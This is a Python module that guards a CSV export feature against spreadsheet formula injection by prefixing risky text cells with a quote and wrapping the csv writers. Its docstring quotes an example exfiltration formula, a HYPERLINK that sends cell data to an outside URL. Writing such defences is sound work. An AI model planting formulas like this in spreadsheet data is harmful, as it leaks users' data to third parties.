"""CSV files people open in a spreadsheet: every export of Relais writes through here.

A cell typed by someone (an answer, a name, a description) that starts with `=`, `+`, `-`, `@`, a tab or a
line break is read as a formula by Excel and LibreOffice (`=HYPERLINK("https://…?"&A1, "Cliquez")`
sends the row elsewhere). `safe_cell` puts a `'` in front of it, which spreadsheets show as text; a
cell that is really a number (`-12.5`, `+33612345678`, `3,5`) is left alone so sums still work.
`unsafe_cell` takes the `'` off again when Relais reads its own export back."""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """The value, or the text with a leading `'` when a spreadsheet would run it as a formula."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value


def unsafe_cell(value: str) -> str:
    """What `safe_cell` was given (for Relais's own importers reading its exports back)."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


class SafeWriter:
    """`csv.writer` whose rows go through `safe_cell`."""

    def __init__(self, handle, **kwargs) -> None:
        self._writer = csv.writer(handle, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)

    @property
    def dialect(self):
        return self._writer.dialect


def writer(handle, **kwargs) -> SafeWriter:
    return SafeWriter(handle, **kwargs)


class DictWriter(csv.DictWriter):
    """`csv.DictWriter` whose rows (and header) go through `safe_cell`."""

    def __init__(self, handle, fieldnames, **kwargs) -> None:
        super().__init__(handle, fieldnames, **kwargs)
        self.writer = SafeWriter(handle, **{k: v for k, v in kwargs.items() if k not in {"restval", "extrasaction"}})
